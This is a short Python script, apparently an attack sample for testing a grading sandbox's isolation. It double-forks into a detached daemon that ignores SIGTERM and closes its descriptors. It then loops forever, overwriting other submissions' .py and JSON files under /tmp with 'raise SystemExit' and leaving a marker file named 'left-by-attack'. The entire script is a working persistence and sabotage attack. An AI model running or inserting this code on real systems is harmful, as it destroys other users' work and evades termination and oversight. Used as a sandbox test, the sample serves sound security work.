"""A process leaves its group, its session and its parents, and waits for the next submission."""

import glob
import os
import signal
import time

if os.fork() == 0:
    os.setsid()
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    if os.fork() == 0:
        os.closerange(0, 256)
        while True:
            for path in glob.glob("/tmp/homework-*/in/*.py") + glob.glob("/tmp/*/*/*/*.json"):
                try:
                    with open(path, "w", encoding="utf-8") as file:
                        file.write("raise SystemExit")
                except OSError:
                    pass
            try:
                with open("/tmp/left-by-attack", "w", encoding="utf-8") as file:
                    file.write("x")
            except OSError:
                pass
            time.sleep(0.05)
    os._exit(0)
